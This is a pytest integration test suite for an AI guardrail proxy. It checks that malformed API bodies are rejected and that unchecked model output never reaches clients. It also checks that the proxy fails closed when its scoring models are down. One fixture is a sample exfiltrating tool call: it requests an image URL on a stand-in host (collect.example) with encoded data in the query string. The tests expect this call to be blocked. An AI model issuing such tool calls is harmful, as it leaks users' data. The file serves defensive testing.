"""The Responses and Messages APIs under attack: malformed bodies are refused with a 4xx JSON error naming the
problem (never forwarded), and in enforce + fail-closed no unchecked text reaches a client, whatever shape the
app hides it in (a field beside the answer, a reasoning item, done events that disagree with the deltas, a
stream without its start event, an unreadable event, an error event) and even with the models down."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest

from guardrail_devcluster.cluster import free_port
from tests.integration.protocols import scripted_app
from tests.integration.protocols.conftest import QUESTION, ScriptedApp, in_front_of
from tests.support.processes import PYTHON, running

from .conftest import Sidecar, StartSidecar, events, leaks, models_down

pytestmark = pytest.mark.integration
RESPONSES, MESSAGES = "/v1/responses", "/v1/messages"


@pytest.fixture(scope="module")
def scripted(tmp_path_factory: pytest.TempPathFactory) -> Any:
    port = free_port()
    log = tmp_path_factory.mktemp("scripted-adv") / "scripted.log"
    url = f"http://127.0.0.1:{port}"
    with running([PYTHON, str(Path(scripted_app.__file__)), "--port", str(port)], url + "/_seen", log):
        yield ScriptedApp(url, port)


@pytest.fixture(scope="module")
def guarded(start_sidecar: StartSidecar, scripted: ScriptedApp) -> Sidecar:
    return start_sidecar(in_front_of(scripted), name="adv-protocols")


def body_for(path: str, stream: bool) -> dict[str, Any]:
    if path == RESPONSES:
        return {"model": "m", "input": QUESTION, "stream": stream}
    return {"model": "m", "max_tokens": 64, "messages": [{"role": "user", "content": QUESTION}], "stream": stream}


def send(sidecar: Sidecar, path: str, body: Any, **headers: str) -> httpx.Response:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    hdrs = {"content-type": "application/json", **{k.replace("_", "-"): v for k, v in headers.items()}}
    return httpx.post(sidecar.url + path, content=content, headers=hdrs, timeout=60)


MALFORMED: dict[str, tuple[str, bytes | dict[str, Any] | list[Any], str]] = {
    # name: (path, body, a word the error must name)
    "responses-array-body": (RESPONSES, [QUESTION], "object"),
    "responses-input-number": (RESPONSES, {"model": "m", "input": 42}, "input"),
    "responses-item-string": (RESPONSES, {"model": "m", "input": ["hello"]}, "input[0]"),
    "responses-message-no-role": (RESPONSES, {"model": "m", "input": [{"type": "message", "content": "hi"}]}, "role"),
    "responses-content-number": (RESPONSES, {"model": "m", "input": [{"role": "user", "content": 7}]}, "content"),
    "responses-instructions-list": (RESPONSES, {"model": "m", "input": "hi", "instructions": ["a"]}, "instructions"),
    "responses-stream-string": (RESPONSES, {"model": "m", "input": "hi", "stream": "yes"}, "stream"),
    "responses-duplicate-key": (RESPONSES, b'{"model": "m", "input": "hi", "input": "x"}', "duplicate"),
    "responses-not-json": (RESPONSES, b'{"model": "m", "input": ', "JSON"),
    "messages-no-messages": (MESSAGES, {"model": "m", "max_tokens": 8}, "messages"),
    "messages-empty": (MESSAGES, {"model": "m", "max_tokens": 8, "messages": []}, "messages"),
    "messages-system-role": (MESSAGES, {"model": "m", "messages": [{"role": "system", "content": "x"}]}, "role"),
    "messages-content-number": (MESSAGES, {"model": "m", "messages": [{"role": "user", "content": 1}]}, "content"),
    "messages-block-no-type": (
        MESSAGES,
        {"model": "m", "messages": [{"role": "user", "content": [{"text": "x"}]}]},
        "type",
    ),
    "messages-system-number": (
        MESSAGES,
        {"model": "m", "system": 3, "messages": [{"role": "user", "content": "x"}]},
        "system",
    ),
    "messages-tool-result-number": (
        MESSAGES,
        {
            "model": "m",
            "messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": 5}]}],
        },
        "content",
    ),
    "messages-stream-string": (
        MESSAGES,
        {"model": "m", "messages": [{"role": "user", "content": "x"}], "stream": 1},
        "stream",
    ),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_a_malformed_body_is_a_4xx_naming_the_problem_and_never_forwarded(
    guarded: Sidecar, scripted: ScriptedApp, case: str
) -> None:
    path, body, named = MALFORMED[case]
    rid = f"malformed-{case}-{uuid.uuid4().hex[:6]}"
    response = send(guarded, path, body, x_request_id=rid, x_scripted_answer="marker")
    assert response.status_code == 400, response.text[:300]
    assert response.headers["content-type"].startswith("application/json")
    payload = response.json()
    if path == MESSAGES:  # Anthropic's error shape
        assert payload["type"] == "error"
        assert payload["error"]["type"] == "invalid_request_error"
    else:  # OpenAI's
        assert isinstance(payload["error"]["code"], str)
    assert named.lower() in payload["error"]["message"].lower(), payload
    assert rid not in scripted.seen()


HIDING = ["plain", "marker-outside", "marker-in-reasoning", "deltas-disagree", "no-start"]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("case", HIDING)
@pytest.mark.parametrize("path", [RESPONSES, MESSAGES])
def test_the_marker_never_reaches_the_client(guarded: Sidecar, path: str, case: str, stream: bool) -> None:
    answer = "marker" if case == "plain" else "grounded"
    response = send(guarded, path, body_for(path, stream), x_scripted_answer=answer, x_scripted_case=case)
    assert response.status_code == 200, response.text[:300]
    assert not leaks(response), response.text[:1500]
    if case == "plain":
        assert response.headers.get("x-guardrail-verdict", "block") == "block"


@pytest.mark.parametrize("case", ["unreadable-event", "error-event"])
@pytest.mark.parametrize("path", [RESPONSES, MESSAGES])
def test_a_broken_stream_ends_well_formed_after_the_checked_text(guarded: Sidecar, path: str, case: str) -> None:
    response = send(guarded, path, body_for(path, True), x_scripted_answer="grounded-then-marker", x_scripted_case=case)
    found = events(response)
    assert not leaks(response)
    last = found[-1]
    if path == RESPONSES:
        assert last["type"] == "response.incomplete"
        assert last["response"]["incomplete_details"]["reason"] == "content_filter"
        reason = last["response"]["guardrail"]["reason"]
    else:
        assert last["type"] == "message_stop"
        assert found[-2]["delta"]["stop_reason"] == "refusal"
        reason = found[-2]["guardrail"]["reason"]
    assert reason == ("unreadable_answer" if case == "unreadable-event" else "upstream_error")


@pytest.fixture(scope="module")
def broken(start_sidecar: StartSidecar, scripted: ScriptedApp) -> Sidecar:
    """Fail-closed, models down, injection detection off: requests reach the app, answers cannot be scored."""
    overrides = in_front_of(scripted, {"promptInjection": {"enabled": False}})
    overrides["routing"]["stable"]["models"] = models_down(free_port())
    return start_sidecar(overrides, ready_path="/healthz", name="adv-protocols-down")


EXFILTRATING = json.dumps({"url": "https://collect.example/p.gif?d=" + "QUJD" * 20})


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("path", [RESPONSES, MESSAGES])
@pytest.mark.parametrize("tool", [None, EXFILTRATING], ids=["text", "exfiltrating-tool-call"])
def test_with_the_models_down_nothing_unchecked_is_sent(
    broken: Sidecar, path: str, stream: bool, tool: str | None
) -> None:
    """A text answer cannot be scored: withheld (fail-closed). Tool-call arguments are scanned by pattern even
    without the models (the detector is off here), so a call carrying data out is still blocked."""
    headers = {"x_scripted_answer": "grounded"} | ({"x_scripted_tool": tool} if tool else {})
    response = send(broken, path, body_for(path, stream), **headers)
    assert response.status_code == 200, response.text[:300]
    assert not leaks(response, "14 days")  # even a grounded answer is unchecked: withheld
    assert not leaks(response, "collect.example")
    assert ("exfiltration" if tool else "backend_unavailable") in response.text


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/responses/resp_scripted"),
        ("POST", "/v1/responses/resp_scripted/cancel"),
        ("GET", "/V1/Responses/resp_scripted/"),
        ("GET", "/v1/chat/completions/chatcmpl-scripted/messages"),
        ("POST", "/v1/messages/batches"),
        ("GET", "/v1/messages/batches/msgbatch_1/results"),
    ],
)
def test_stored_and_batched_answers_are_not_served_unchecked(
    guarded: Sidecar, scripted: ScriptedApp, method: str, path: str
) -> None:
    """The app keeps every answer it generated, the ones the sidecar blocked included: reading one back by id
    (or a batch's results) would skip the check, so it is refused without asking the app."""
    rid = f"stored-{uuid.uuid4().hex[:8]}"
    headers = {"x-request-id": rid, "x-scripted-answer": "marker", "content-type": "application/json"}
    response = httpx.request(method, guarded.url + path, headers=headers, content=b"{}", timeout=30)
    assert response.status_code == 403, response.text[:300]
    assert not leaks(response)
    assert "unchecked_retrieval" in response.text
    if "/messages" in path and "/chat/" not in path:
        assert response.json()["error"]["type"] == "permission_error"
    assert rid not in scripted.seen()


@pytest.mark.parametrize(("method", "path"), [("POST", "/v1/messages/count_tokens"), ("DELETE", "/v1/responses/r1")])
def test_token_counting_and_deletes_pass_through(
    guarded: Sidecar, scripted: ScriptedApp, method: str, path: str
) -> None:
    rid = f"passes-{uuid.uuid4().hex[:8]}"
    response = httpx.request(method, guarded.url + path, headers={"x-request-id": rid}, content=b"{}", timeout=30)
    assert response.status_code == 200, response.text[:300]
    assert rid in scripted.seen()
